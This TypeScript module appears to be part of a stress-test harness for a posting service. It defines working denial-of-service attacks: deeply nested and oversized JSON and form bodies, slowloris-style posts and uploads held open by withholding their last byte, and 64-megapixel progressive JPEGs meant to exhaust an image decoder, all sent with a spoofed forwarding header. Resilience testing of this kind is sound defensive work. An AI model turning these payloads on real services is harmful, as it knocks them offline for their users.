import { readFileSync } from 'node:fs';
import sharp from 'sharp';
import { requestBytes } from '../generators/answers.js';
import { LIST } from '../places.js';
import { cached } from '../support/data.js';
import type { Attack, Target } from './material.js';
import { closed, flood, open, pause, repeat } from './sockets.js';

/** Connections of a closed-loop attacker. */
const LOOPS = 4;
/** The attacker's address, as the proxy in front of the service would tell it. */
const FROM = 'X-Forwarded-For: 198.51.100.1\r\n';
const JSON_TYPE = 'application/json';
const FORM_TYPE = 'application/x-www-form-urlencoded';
const PARTS_TYPE = 'multipart/form-data; boundary=XX';
/** Pause before a closed connection is opened again. */
const AGAIN_MS = 100;
/** Pixels a side: 64 million in all. */
const SIDE = 8_000;

const badPosts: Attack = {
  name: 'bad-posts',
  title: 'posts that are deep, wide or wrong in every tag, of 250 kB to 1 MB',
  isPosting: true,
  run: (target) => {
    const bodies = [
      postBytes(`{"tags":${'['.repeat(125_000)}`, JSON_TYPE),
      postBytes(`{"tags":${'['.repeat(260_000)}${']'.repeat(260_000)}}`, JSON_TYPE),
      postBytes(`{"tags":[${'[],'.repeat(80_000)}0]}`, JSON_TYPE),
      postBytes(`{"tags":[${'"x",'.repeat(9_900)}0]}`, JSON_TYPE),
      postBytes(`{"comment":"${'\\u0001'.repeat(40_000)}"}`, JSON_TYPE),
      postBytes(`lat=1${'&tags='.repeat(41_000)}`, FORM_TYPE),
      postBytes(`lat=1${'&tags='.repeat(174_000)}`, FORM_TYPE),
      postBytes(`lat=1&comment=${'%00'.repeat(80_000)}`, FORM_TYPE),
    ];
    return flood(target, LOOPS, () => target.random.pick(bodies));
  },
};

const openPosts: Attack = {
  name: 'open-posts',
  title: '1,500 posts of 250 kB that lack their last byte',
  isPosting: true,
  run: (target) => {
    const bytes = postBytes(`{"comment":"${'x'.repeat(250_000)}"}`, JSON_TYPE).subarray(0, -1);
    return keepOpen(target, 1_500, bytes);
  },
};

const slowUploads: Attack = {
  name: 'slow-uploads',
  title: '240 pictures whose last byte does not come',
  isPosting: true,
  async run(target) {
    const bytes = imageBytes(await picture(32)).subarray(0, -1);
    await keepOpen(target, 240, bytes);
  },
};

const largePictures: Attack = {
  name: 'large-pictures',
  title: '60 pictures of 64 million pixels at a time',
  isPosting: true,
  async prepare() {
    await picture(SIDE);
  },
  async run(target) {
    const bytes = imageBytes(await picture(SIDE));
    await flood(target, 60, () => bytes);
  },
};

/** In the order of the table. */
export const POST_ATTACKS: readonly Attack[] = [badPosts, openPosts, slowUploads, largePictures];

/** Keeps `connections` open, over each of which the same bytes were sent; reopens closed ones. */
function keepOpen(target: Target, connections: number, bytes: Buffer): Promise<void> {
  return repeat(target, connections, async () => {
    const socket = open(target);
    socket.resume();
    socket.write(bytes);
    target.tally.sent++;
    await closed(socket);
    await pause(AGAIN_MS, target.signal);
  });
}

function postBytes(body: string | Buffer, type: string): Buffer {
  const headers = `${FROM}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n`;
  return Buffer.concat([requestBytes(LIST, headers, 'POST'), Buffer.from(body)]);
}

function imageBytes(image: Buffer): Buffer {
  const part = '--XX\r\nContent-Disposition: form-data; name=';
  const place = `${part}"lat"\r\n\r\n60.1\r\n${part}"lon"\r\n\r\n24.9\r\n`;
  const head = `${place}${part}"image"; filename="a.jpg"\r\n\r\n`;
  const end = '\r\n--XX--\r\n';
  return postBytes(Buffer.concat([Buffer.from(head), image, Buffer.from(end)]), PARTS_TYPE);
}

/** A square JPEG in several scans, which a decoder cannot shrink while it reads. */
async function picture(side: number): Promise<Buffer> {
  const create = { width: side, height: side, channels: 3, background: 'teal' } as const;
  const path = await cached(`picture-${side}.jpg`, async (out) => {
    await sharp({ create }).jpeg({ progressive: true }).toFile(out);
  });
  return readFileSync(path);
}
